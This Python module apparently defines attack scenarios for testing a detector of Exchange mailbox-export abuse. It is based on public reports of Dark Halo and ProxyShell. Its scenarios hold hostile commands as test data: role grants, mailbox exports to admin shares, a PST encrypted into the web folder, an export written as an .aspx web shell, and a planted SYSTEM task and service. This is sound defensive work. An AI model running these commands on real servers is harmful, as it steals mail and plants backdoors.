"""Attacks as public reports describe them: from the outside in, with a trace on the host.

Dark Halo: Volexity, "Dark Halo Leverages SolarWinds Compromise to Breach Organizations" (2020-12-14),
ATT&CK C0024. ProxyShell: CVE-2021-34473, -34523 and -31207; "APT35 Automates Initial Access Using
ProxyShell", The DFIR Report (2022-03-21).
"""

from playbooks.mailbox_export.scenarios import commands
from playbooks.mailbox_export.scenarios.scenario import ExportScenario
from playbooks.scenarios import Expected, Hours, Kind, Place, Runner, Source, Step
from playbooks.scenarios.programs import (
    COMMAND_PROMPT,
    OWA_WORKER,
    POWERSHELL,
    RUNDLL32,
    SCHTASKS,
    SERVICE_CONTROL,
    SERVICE_MANAGER,
    SEVEN_ZIP,
    TASK_SCHEDULER,
    WEB_WORKER,
    WMI_HOST,
    Program,
)

_CMD = COMMAND_PROMPT.image


def _by_admin(minute: float, command: str, process: Program = COMMAND_PROMPT) -> Step:
    """A step typed into a command prompt under a stolen Exchange administrator."""
    return Step(
        minute=minute,
        command=command,
        process=process,
        parent=COMMAND_PROMPT,
        runner=Runner.COMPROMISED_ADMIN,
    )


def _shell_line(script: str) -> str:
    """The reported form: cmd starts PowerShell with the Exchange console file."""
    return f'{_CMD} /C powershell.exe -PSConsoleFile exshell.psc1 -Command "{script}"'


DARK_HALO = ExportScenario(
    name="dark_halo",
    title="Dark Halo: discovery, role grant, export to a drive share, 7-Zip into the web folder, removal",
    kind=Kind.ATTACK,
    expected=Expected.ESCALATE,
    reasons=("target_admin_share", "role_granted", "archiver_used"),
    techniques=(
        "T1087.003",
        "T1098.002",
        "T1114.002",
        "T1560.001",
        "T1074.002",
        "T1070.008",
        "T1059.001",
        "T1078.002",
    ),
    place=Place.EXCHANGE,
    hours=Hours.ANY,
    steps=(
        _by_admin(0, _shell_line("Get-ManagementRoleAssignment -GetEffectiveUsers | Format-Table -AutoSize")),
        _by_admin(2, _shell_line("Get-WebServicesVirtualDirectory | Format-List")),
        _by_admin(
            4, _shell_line("New-ManagementRoleAssignment -Role 'Mailbox Import Export' -User {runner}")
        ),
        _by_admin(
            9,
            _shell_line(
                "New-MailboxExportRequest -Mailbox {vip} -ContentFilter {(Received -ge '{since}')}"
                r" -FilePath '\\{host}\c$\temp\b.pst'"
            ),
        ),
        _by_admin(
            26,
            rf'{SEVEN_ZIP.image} a -t7z -mx9 -mhe=on -p{{word}} "C:\{commands.WEB_FOLDER}\Redir.png"'
            r" C:\temp\b.pst",
            SEVEN_ZIP,
        ),
        _by_admin(
            33,
            _shell_line(
                "Get-MailboxExportRequest -Mailbox {vip} | Remove-MailboxExportRequest -Confirm:$False"
            ),
        ),
    ),
)


def _by_exploit(minute: float, command: str, process: Program = POWERSHELL) -> Step:
    """A step below the Exchange PowerShell application pool, as the impersonated user."""
    return Step(
        minute=minute, command=command, process=process, parent=WEB_WORKER, runner=Runner.IMPERSONATED_USER
    )


def _plain(script: str) -> str:
    """A command inside the Exchange PowerShell backend, which needs no snap-in."""
    return f'powershell.exe -NoProfile -Command "{script}"'


PROXYSHELL = ExportScenario(
    name="proxyshell",
    title="ProxyShell: role grant, export of the user's drafts as an .aspx web shell, removal",
    kind=Kind.ATTACK,
    expected=Expected.ESCALATE,
    reasons=("target_not_pst", "target_web_root", "target_admin_share", "parent_suspicious", "role_granted"),
    techniques=("T1190", "T1098.002", "T1505.003", "T1114.002", "T1070.008", "T1059.001"),
    place=Place.EXCHANGE,
    hours=Hours.ANY,
    steps=(
        _by_exploit(
            0, _plain("New-ManagementRoleAssignment -Role 'Mailbox Import Export' -User {own}@{domain}")
        ),
        _by_exploit(
            0.3,
            _plain(
                "New-MailboxExportRequest -Name {word} -Mailbox {own}@{domain} -IncludeFolders '#Drafts#'"
                " -ContentFilter (Subject -eq '{word}') -ExcludeDumpster"
                rf" -FilePath '\\127.0.0.1\C$\{commands.WEB_FOLDER}\{{word}}.aspx'"
            ),
        ),
        _by_exploit(
            2.5, _plain(r"Remove-MailboxExportRequest -Identity '{own}@{domain}\{word}' -Confirm:$false")
        ),
        Step(
            minute=3,
            command=f'"{_CMD}" /c whoami',
            process=COMMAND_PROMPT,
            parent=OWA_WORKER,
            runner=Runner.SYSTEM,
        ),
    ),
)

PLANTED_TASK = ExportScenario(
    name="planted_system_task",
    title="A task that the intruder planted exports as SYSTEM under the name of the clean-up",
    kind=Kind.ATTACK,
    expected=Expected.ESCALATE,
    reasons=("task_changed", "target_admin_share", "service_account_unregistered"),
    techniques=("T1053.005", "T1036.004", "T1114.002", "T1070.008", "T1059.001"),
    place=Place.SPARE_EXCHANGE,
    hours=Hours.ANY,
    steps=(
        _by_admin(
            0,
            rf'{SCHTASKS.image} /create /tn "\Microsoft\Windows\CleanupExportedMailboxes" /ru SYSTEM'
            r" /sc once /st 00:00 /tr C:\ProgramData\cleanup.cmd",
            SCHTASKS,
        ),
        Step(
            minute=12,
            command=commands.snap_in(
                "New-MailboxExportRequest -Name CleanupExportedMailboxes -Mailbox {vip}"
                r" -FilePath '\\{host}\c$\ProgramData\Microsoft\bk.pst'"
            ),
            parent=TASK_SCHEDULER,
            runner=Runner.SYSTEM,
        ),
        Step(
            minute=29,
            command=commands.snap_in(
                "Get-MailboxExportRequest -Name CleanupExportedMailboxes"
                " | Remove-MailboxExportRequest -Confirm:$false"
            ),
            parent=TASK_SCHEDULER,
            runner=Runner.SYSTEM,
        ),
    ),
)

SERVICE_IMPLANT = ExportScenario(
    name="service_implant",
    title="A freshly installed service exports a mailbox as SYSTEM",
    kind=Kind.ATTACK,
    expected=Expected.ESCALATE,
    reasons=("service_created", "parent_suspicious", "target_admin_share", "service_account_unregistered"),
    techniques=("T1543.003", "T1114.002", "T1070.008", "T1059.001"),
    place=Place.SPARE_EXCHANGE,
    hours=Hours.ANY,
    steps=(
        _by_admin(
            0,
            rf"{SERVICE_CONTROL.image} create MSExchangeCleanupExport binPath= C:\ProgramData\mec.exe",
            SERVICE_CONTROL,
        ),
        Step(
            minute=3,
            command=commands.snap_in(
                r"New-MailboxExportRequest -Mailbox {vip} -FilePath '\\{host}\c$\temp\CleanupExport.pst'"
            ),
            parent=SERVICE_MANAGER,
            runner=Runner.SYSTEM,
        ),
        Step(
            minute=23,
            command=commands.snap_in(commands.ANY_REMOVAL),
            parent=SERVICE_MANAGER,
            runner=Runner.SYSTEM,
        ),
    ),
)

LOADER = ExportScenario(
    name="loader_module",
    title="A loader in rundll32 exports an executive to a random .tmp in a profile, at high priority",
    kind=Kind.ATTACK,
    expected=Expected.ESCALATE,
    reasons=("target_not_pst", "target_admin_share", "parent_suspicious"),
    techniques=("T1218.011", "T1114.002", "T1070.008", "T1059.001"),
    place=Place.EXCHANGE,
    hours=Hours.ANY,
    steps=(
        Step(
            minute=0,
            command=commands.exchange_shell(
                "New-MailboxExportRequest -Priority High -ContentFilter 'Received -ge ''{since}'''"
                r" -Mailbox {vip}@{domain} -FilePath"
                r" '\\localhost\C$\Users\{runner}\AppData\Local\Temp\{word}.tmp'"
            ),
            parent=RUNDLL32,
            runner=Runner.COMPROMISED_ADMIN,
        ),
        Step(
            minute=2,
            command=commands.exchange_shell(commands.removal_of("{vip}")),
            parent=RUNDLL32,
            runner=Runner.COMPROMISED_ADMIN,
        ),
    ),
)

REMOTE_WMI = ExportScenario(
    name="remote_wmi",
    title="Export and removal are started over WMI from another machine",
    kind=Kind.ATTACK,
    expected=Expected.ESCALATE,
    reasons=("parent_suspicious", "target_admin_share"),
    techniques=("T1047", "T1114.002", "T1070.008", "T1059.001", "T1021.002"),
    place=Place.EXCHANGE,
    hours=Hours.ANY,
    sources=(Source.SYSMON, Source.DEFENDER),
    steps=(
        Step(
            minute=0,
            command=commands.snap_in(
                r"New-MailboxExportRequest -Mailbox {stranger} -FilePath '\\{fqdn}\ADMIN$\debug\wia.pst'"
            ),
            parent=WMI_HOST,
            runner=Runner.COMPROMISED_ADMIN,
        ),
        Step(
            minute=14,
            command=commands.snap_in(commands.removal_of("{stranger}")),
            parent=WMI_HOST,
            runner=Runner.COMPROMISED_ADMIN,
        ),
    ),
)

INTRUSIONS = (DARK_HALO, PROXYSHELL, PLANTED_TASK, SERVICE_IMPLANT, LOADER, REMOTE_WMI)
